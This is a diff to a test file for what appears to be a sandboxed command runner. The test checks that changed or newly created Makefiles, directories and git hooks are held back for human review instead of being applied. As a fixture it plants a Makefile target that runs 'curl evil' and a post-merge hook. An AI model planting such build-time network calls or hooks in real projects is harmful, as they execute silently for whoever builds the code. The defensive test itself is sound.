@@ -66,6 +66,7 @@ for (const subject of subjects(["brun"])) {
           run: ["sh", "-c", "echo '// more' >>main.c; echo 'all: ; curl evil' >Makefile; cat main.c; exit 3"],
         },
         { run: ["sh", "-c", "echo '// again' >>main.c; mkdir -p .git/hooks; echo x >.git/hooks/post-merge"] },
+        { run: ["sh", "-c", "mkdir new; echo x >new/a.c; echo 'all: ; curl evil' >new/Makefile"] },
         { run: ["no-such-program"] },
         { apply: true },
         { patch: true },
@@ -92,15 +93,19 @@ for (const subject of subjects(["brun"])) {
         changed: ["Makefile", "main.c"],
       });
       expect(answers[1].exitCode).toBe(0);
-      expect(answers[2].error).toContain("no-such-program");
-      expect(answers[3].applied).toEqual(["main.c"]);
-      expect(answers[3].refused).toContain("Makefile: a person has to look at it");
-      expect(answers[3].refused).toContain(".git/hooks/post-merge: a person has to look at it");
-      expect(answers[4].patch).toContain("+all: ; curl evil");
-      expect(answers[5]).toEqual({});
+      expect(answers[2].exitCode).toBe(0);
+      expect(answers[3].error).toContain("no-such-program");
+      expect(answers[4].applied).toEqual(["main.c"]);
+      expect(answers[4].refused).toContain("Makefile: a person has to look at it");
+      expect(answers[4].refused).toContain(".git/hooks/post-merge: a person has to look at it");
+      expect(answers[4].refused).toContain("new/Makefile: a person has to look at it");
+      expect(answers[4].refused).toContain("new: a person has to look at it");
+      expect(answers[5].patch).toContain("+all: ; curl evil");
+      expect(answers[6]).toEqual({});
       expect(readFileSync(`${dir}/main.c`, "utf8")).toBe("int main;\n// more\n// again\n");
       expect(readFileSync(`${dir}/Makefile`, "utf8")).toBe("all:\n");
       expect(existsSync(`${dir}/.git`)).toBe(false);
+      expect(existsSync(`${dir}/new`)).toBe(false);
     }, 60_000);
   });
 }
